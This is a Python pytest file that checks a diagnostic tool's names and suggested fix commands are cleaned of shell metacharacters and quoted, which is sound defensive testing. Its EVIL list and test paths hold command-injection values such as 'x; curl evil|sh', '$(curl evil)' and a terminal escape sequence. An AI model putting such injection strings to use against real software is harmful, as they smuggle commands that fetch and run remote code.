"""What stands in a command to paste can't be made a command of its own by whoever chose a name."""

import os
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from doctor.cli.main import app
from doctor.core.facts import Interface
from doctor.core.facts.host import NameLookup
from doctor.core.job import UNKNOWN_HOST, Host
from doctor.core.settings import Settings
from doctor.facts import Directory, StorageFacts
from doctor.session import judge, load_checks
from doctor.testing import healthy

EVIL = (
    "x\ncurl evil|sh",
    "x'; curl evil|sh; '",
    "$(curl evil)",
    "`curl evil`",
    "x && curl evil",
    "x evil",
    "x(evil)",
    "x\x1b]52;c;AAAA\x07",
)


@pytest.mark.parametrize("name", EVIL)
def test_a_name_holds_nothing_that_a_shell_acts_on(name):
    for shown in (Host(name).name, Interface(name).name, NameLookup(name).name):
        assert not set("\n;&|$`'\x1b\x07 ()") & set(shown)


def test_names_that_hosts_have_stay():
    for name in ("node-1.cluster.example", "eth0.100@if5", "bond0:1", "nodé"):
        assert Host(name).name == Interface(name).name == name
    assert Host(UNKNOWN_HOST).name == UNKNOWN_HOST


@pytest.mark.parametrize("path", ["/runs/a; curl evil|sh #", "/runs/$(curl evil)"])
def test_the_path_of_a_checkpoint_is_quoted(path):
    folder = Directory(path, "checkpoint", "settings", exists=True, writable=False)
    job = healthy(1, 1).put(StorageFacts(directories=(folder,))).job()
    (found,) = [one for one in judge(job, load_checks(Settings()), Settings()).results if one.id == "HOST004"]
    assert f"namei -l '{path}'" in found.findings[0].fix


@pytest.mark.parametrize("folder", ["a; curl evil|sh #", "b\ncurl evil|sh\nc"])
def test_the_path_of_a_lock_is_quoted(tmp_path: Path, monkeypatch, folder):
    lock = tmp_path / folder / "lock"
    lock.parent.mkdir()
    lock.touch()
    os.utime(lock, (time.time() - 18_000,) * 2)
    monkeypatch.setenv("TORCH_EXTENSIONS_DIR", str(tmp_path))
    told = CliRunner().invoke(app, ["check", "--gather", "none", "--select", "HOST008"]).output
    fix = next(line.split(maxsplit=1)[1] for line in told.splitlines() if line.strip().startswith("fix "))
    assert fix in (f"rm '{lock}'", "rm LOCK, whose path holds control characters")
